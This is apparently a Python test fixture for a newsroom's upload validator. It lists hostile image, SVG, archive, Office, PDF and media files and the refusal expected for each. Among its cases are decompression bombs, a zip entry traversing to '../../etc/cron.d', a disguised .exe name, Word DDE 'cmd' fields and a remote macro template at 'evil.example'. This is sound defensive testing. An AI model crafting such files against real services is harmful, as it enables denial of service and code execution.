"""Hostile files, each with what must come of it: for the tests here, and for `script/hostile_files` at a running newsroom."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from assets.refusals import Reason
from tests.assets import hostile_documents as d
from tests.assets import hostile_pictures as p
from tests.assets.pictures import encoded, halves, plain


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file that is sent as an image or as an attachment; `reason` is why it is refused, None when it is taken in.

    `or_limit` says that a worker's limit may stop it first.
    """

    name: str
    filename: str
    make: Callable[[], bytes]
    reason: Reason | None = None
    or_limit: bool = False

    @property
    def is_large(self) -> bool:
        """Whether it is one of those that are taken in and cost the most."""
        return self.reason is None and (
            "largest" in self.name or "tallest" in self.name or "million" in self.name
        )

    @property
    def is_image(self) -> bool:
        return self.filename.rpartition(".")[2] in {"jpg", "png", "webp", "avif", "svg", "heic", "gif", "tif", "bmp"}  # fmt: skip


def _pictures() -> list[Hostile]:
    r = Reason
    return [
        Hostile("118 million pixels", "a.png", partial(p.png, 10_880, 10_880), r.IMAGE_PIXELS),
        Hostile("a strip", "a.png", partial(p.png, 60_000, 1), r.IMAGE_STRIP),
        Hostile("1.6 billion pixels claimed", "a.png", lambda: p.header(40_000, 40_000) + p.png(9, 9)[33:], r.IMAGE_PIXELS),
        Hostile("the largest true colours", "a.png", partial(p.png, 8_660, 5_773)),
        Hostile("the largest with transparency", "a.png", partial(p.png, 8_000, 5_333, colour=6)),
        Hostile("the largest palette", "a.png", partial(p.png, 9_600, 9_600, colour=3)),
        Hostile("the largest grey of 16 bits", "a.png", partial(p.png, 9_200, 9_200, depth=16, colour=0)),
        Hostile("the tallest with transparency", "a.png", partial(p.png, 1_160, 11_600, colour=6)),
        Hostile("the tallest", "a.png", partial(p.png, 1_640, 16_400)),
        Hostile("words that unpack to 800 MB", "a.png", p.png_text_bomb),
        Hostile("a profile that unpacks to 500 MB", "a.png", p.png_profile_bomb),
        Hostile("more pixels than it says", "a.png", p.png_too_much_data, r.IMAGE_DAMAGED),
        Hostile("150,000 chunks", "a.png", p.png_many_chunks, r.IMAGE_DAMAGED),
        Hostile("an animation", "a.png", partial(p.animation, 200), r.IMAGE_ANIMATED),
        Hostile("60 million pixels", "a.jpg", partial(p.jpeg, 9504, 6336)),
        Hostile("60 million pixels on their side", "a.jpg", lambda: p.turned(p.jpeg(9504, 6336))),
        Hostile("24 million pixels on their side", "a.jpg", lambda: p.turned(p.jpeg(6000, 3990))),
        Hostile("60 million pixels, progressive", "a.jpg", partial(p.jpeg, 9504, 6336, progressive=True)),
        Hostile("too much progressive", "a.jpg", partial(p.jpeg, 9504, 6336, progressive=True, subsampling=0), r.IMAGE_PIXELS),
        Hostile("3,000 scans", "a.jpg", partial(p.jpeg_scans, 2_000), r.IMAGE_SCANS),
        Hostile("20,000 segments", "a.jpg", partial(p.jpeg_segments, 20_000), r.IMAGE_DAMAGED),
        Hostile("4 billion pixels claimed", "a.jpg", partial(p.jpeg_claiming, 65_500, 65_500), r.IMAGE_PIXELS),
        Hostile("arithmetic coding", "a.jpg", partial(p.jpeg_coded_as, 0xC9), r.IMAGE_CODING),
        Hostile("without loss", "a.jpg", partial(p.jpeg_coded_as, 0xC3), r.IMAGE_CODING),
        Hostile("12 MB of a false profile", "a.jpg", p.jpeg_fake_profile),
        Hostile("half a picture", "a.jpg", lambda: encoded(halves((900, 900)), "JPEG")[:9_000], r.IMAGE_DAMAGED),
        Hostile("for printers", "a.jpg", lambda: encoded(halves((900, 600)).convert("CMYK"), "JPEG")),
        Hostile("268 million pixels claimed", "a.webp", partial(p.webp_claiming, 16_383, 16_383), r.IMAGE_PIXELS),
        Hostile("the largest WebP", "a.webp", partial(p.webp, 4_600, 3_450)),
        Hostile("the largest WebP without loss", "a.webp", partial(p.webp, 4_000, 3_050, lossless=True)),
        Hostile("the largest AVIF", "a.avif", partial(p.avif, 3_280, 2_480)),
        Hostile("too large an AVIF", "a.avif", partial(p.avif, 4_000, 3_000), r.IMAGE_PIXELS),
        Hostile("from a telephone", "a.heic", p.heic, r.IMAGE_FORMAT),
        Hostile("GIF", "a.gif", p.gif, r.IMAGE_FORMAT),
        Hostile("TIFF", "a.tif", partial(plain, "TIFF"), r.IMAGE_FORMAT),
        Hostile("a BMP of 4 billion pixels", "a.bmp", partial(p.bmp_claiming, 65_500, 65_500), r.IMAGE_FORMAT),
    ]  # fmt: skip


def _drawings() -> list[Hostile]:
    r = Reason
    return [
        Hostile("masks in masks", "a.svg", partial(p.nested, "mask", "mask"), r.SVG_ELEMENTS),
        Hostile("clip paths in clip paths", "a.svg", partial(p.nested, "clipPath", "clip-path"), r.SVG_ELEMENTS),
        Hostile("uses of uses", "a.svg", p.uses, r.SVG_ELEMENTS),
        Hostile("a chain of gradients", "a.svg", partial(p.gradients, 5_000), r.SVG_ELEMENTS),
        Hostile("a billion laughs", "a.svg", p.laughs, r.SVG_UNREADABLE),
        Hostile("billions of dashes", "a.svg", p.dashes, r.SVG_INVOLVED),
        Hostile("20,000 rules", "a.svg", partial(p.rules, 20_000), r.SVG_INVOLVED),
        Hostile("10,000 deep", "a.svg", partial(p.deep, 10_000), r.SVG_UNREADABLE),
        Hostile("5,000 layers", "a.svg", partial(p.layers, 5_000), r.SVG_INVOLVED),
        Hostile("half a million letters", "a.svg", partial(p.letters, 500_000), r.SVG_INVOLVED),
        Hostile("UTF-7", "a.svg", partial(p.declared, "UTF-7"), r.SVG_ENCODING),
        Hostile("the costliest drawing", "a.svg", p.worst_drawing),
    ]  # fmt: skip


def _archives() -> list[Hostile]:
    r = Reason
    return [
        Hostile("a mimetype of 1.5 GB", "a.odt", d.mimetype_bomb, r.TOO_MUCH_INSIDE),
        Hostile("a size that lies", "a.zip", d.lying_size, r.DAMAGED),
        Hostile("members over each other", "a.zip", d.quoted_bomb, r.DAMAGED),
        Hostile("archives in an archive", "a.zip", d.nested_bomb, r.TOO_MUCH_INSIDE),
        Hostile("6,000 members", "a.zip", partial(d.many_members, 6_000), r.TOO_MUCH_INSIDE),
        Hostile("a million entries", "a.zip", d.endless_directory, r.TOO_MUCH_INSIDE),
        Hostile("a password", "a.zip", d.locked, r.PASSWORD),
        Hostile("an odd method", "a.zip", d.odd_method, r.UNREADABLE_PACKING),
        Hostile("a way out", "a.zip", lambda: d.packed({"../../etc/cron.d/a": b"x"}), r.UNSAFE_NAME),
        Hostile("a name that reads backwards", "a.zip", lambda: d.packed({"b\u202efdp.exe": b"x"}), r.UNSAFE_NAME),
        Hostile("one name twice", "a.zip", d.twice, r.TWICE),
        Hostile("something behind", "a.zip", lambda: d.packed({"a.txt": b"a"}) + b"SECRET", r.HIDDEN_BYTES),
        Hostile("something between", "a.zip", d.between, r.HIDDEN_BYTES),
        Hostile("nothing in it", "a.zip", lambda: d.packed({})),
        Hostile("nothing in it that its table knows of", "a.zip", lambda: b"PK\x03\x04" + b"SECRET" * 9 + d.packed({}), r.HIDDEN_BYTES),
        Hostile("a program under another name", "a.zip", lambda: d.packed({"a.txt": b"MZ\x90\0"}), r.RUNS),
        Hostile("a program one level down", "a.zip", lambda: d.packed({"b.zip": d.packed({"a.exe": b""})}), r.RUNS),
        Hostile("150 MB of film", "a.zip", d.large_archive),
    ]  # fmt: skip


def _office() -> list[Hostile]:
    r = Reason
    field = "<w:r><w:instrText>{}</w:instrText></w:r>"
    return [
        Hostile("a text of 900 MB", "a.docx", d.word_bomb, r.TOO_MUCH_INSIDE),
        Hostile("macros", "a.docx", lambda: d.word({"word/vbaProject.bin": b"x"}), r.MACROS),
        Hostile("an embedded object", "a.docx", lambda: d.word({"word/embeddings/oleObject1.bin": b"x"}), r.EMBEDDED_OBJECT),
        Hostile("a field that runs", "a.docx", lambda: d.word(body=field.format("DD") + field.format("EAUTO cmd ")), r.FETCHES),
        Hostile("a template from elsewhere", "a.docx",
                lambda: d.word({"word/_rels/settings.xml.rels": d.RELATION.format("attachedTemplate", "https://evil.example/a.dotm")}), r.FETCHES),
        Hostile("old macros", "a.xlsx", lambda: d.excel({"xl/macrosheets/sheet1.xml": b"<a/>"}), r.MACROS),
        Hostile("a script", "a.pdf", d.script_pdf, r.PDF_ACTS),
        Hostile("a hidden script", "a.pdf", d.hidden_script_pdf, r.PDF_ACTS),
        Hostile("a program to launch", "a.pdf", d.launch_pdf, r.PDF_ACTS),
        Hostile("a file inside", "a.pdf", d.file_pdf, r.PDF_FILES),
        Hostile("a stream of 600 MB", "a.pdf", d.stream_bomb_pdf),
        Hostile("objects that unpack to 700 MB", "a.pdf", d.object_stream_bomb, r.PDF_TOO_INVOLVED),
        Hostile("450,000 objects", "a.pdf", d.objects_pdf, r.PDF_TOO_INVOLVED, or_limit=True),
        Hostile("arrays in arrays", "a.pdf", d.deep_pdf, r.PDF_TOO_INVOLVED),
        Hostile("50,000 boxes", "a.mp4", d.boxes_without_end, r.DAMAGED),
        Hostile("a box without end", "a.mp4", d.broken_boxes, r.DAMAGED),
        Hostile("a tag without end", "a.mp3", d.endless_tag, r.DAMAGED),
    ]  # fmt: skip


FILES = tuple(_pictures() + _drawings() + _archives() + _office())
